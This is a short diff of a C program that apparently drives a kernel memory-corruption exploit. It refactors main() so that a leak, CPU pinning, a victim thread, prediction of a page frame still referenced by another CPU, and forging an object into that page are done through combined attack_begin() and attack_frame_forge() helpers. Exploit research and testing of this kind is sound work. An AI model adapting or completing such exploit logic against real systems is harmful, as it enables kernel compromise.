@@ -22,11 +22,8 @@ static void victim(void *unused)
 int main(void)
 {
 	struct bw_leak leak;
-	void *page;
 
-	attack_leak(&leak);
-	attack_need_cpus(NR_CPUS);
-	attack_pin(CPU_OF_ALLOCATOR);
+	attack_begin(&leak, NR_CPUS, CPU_OF_ALLOCATOR);
 	attack_thread(CPU_OF_VICTIM, victim, NULL);
 
 	attack_frame_predict(&leak, &frame);
@@ -35,13 +32,10 @@ int main(void)
 	attack_say("CPU %d has read it at 0x%lx, and stays in the kernel", CPU_OF_VICTIM,
 		   frame.synonym);
 
-	page = attack_frame_take(&frame);
-	if (page == NULL) {
+	if (!attack_frame_forge(&leak, &frame)) {
 		bw_vuln_unpark(false);
 		attack_skip("the next page came from elsewhere");
 	}
-	payload_object(page, frame.synonym, &leak);
-	attack_say("it is ours now, with a forged object in it");
 	bw_vuln_unpark(true);
 	attack_await(&stage, STAGE_CALLED, AWAIT_SPIN);
 	return attack_finish();
